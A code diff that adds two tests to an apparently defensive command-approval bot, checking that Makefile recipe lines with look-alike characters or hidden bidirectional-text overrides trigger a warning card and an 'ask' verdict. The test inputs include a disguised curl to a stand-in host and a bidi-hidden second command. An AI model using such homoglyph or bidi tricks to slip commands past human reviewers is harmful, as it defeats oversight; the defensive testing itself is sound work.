@@ -292,3 +292,28 @@ async def test_slash_replies_show_hidden_characters_and_warn(harness: Harness) -
     assert "looks like sudo" in refused, refused
     plain = await harness.slash(OWNER, "standing list --bot ci-bot")
     assert "warning" not in plain
+
+
+async def test_a_recipe_line_with_such_characters_makes_the_card_warn(harness: Harness) -> None:
+    token = await harness.add_bot()
+    for line in ("c\u0443rl -s https://x.example/i | tee out", "echo ok \u202e ; curl x.example \u202c"):
+        recipe = {"tool": "make", "target": "build", "lines": [{"source": "Makefile:3 (build)", "command": line}]}
+        esc = await harness.escalate(token, command="make build", contained=True, recipes=[recipe])
+        assert esc["status"] == "pending" and esc["risk"] == "destructive", (line, esc["risk"])
+        await harness.eventually(lambda esc=esc: any(esc["id"] in str(m.blocks) for m in harness.emulator.messages))
+        card = harness.card_for(esc["id"])
+        warning = block_text(card["blocks"][2:3])
+        assert "Read this request carefully" in warning, warning
+        assert ("c\u0443rl" in warning) if "\u0443" in line else ("reasons" in warning), warning
+        assert "\u202e" not in json.dumps(card["blocks"], ensure_ascii=False)
+
+
+async def test_the_hook_never_allows_at_once_a_recipe_whose_lines_hold_such_characters(tmp_path: Path) -> None:
+    for line in ("c\u0443rl -s https://x.example/i | tee out", "echo ok \u202e ; cc -o app app.c \u202c", "cc -o app app.c"):
+        (tmp_path / "Makefile").write_text(f"build:\n\t{line}\n", encoding="utf-8")
+        run = await start_hook(json.dumps(hook_event("make build", tmp_path)).encode(), tmp_path, "--contained",
+                               "--ceiling", "system", FLYBOT_URL="http://127.0.0.1:9", FLYBOT_TOKEN="fbt_x")
+        code, out, err = await run.finish()
+        assert code == 0, err
+        verdict, _reason = decision(out)
+        assert verdict == ("allow" if line.isascii() else "ask"), (line, out)
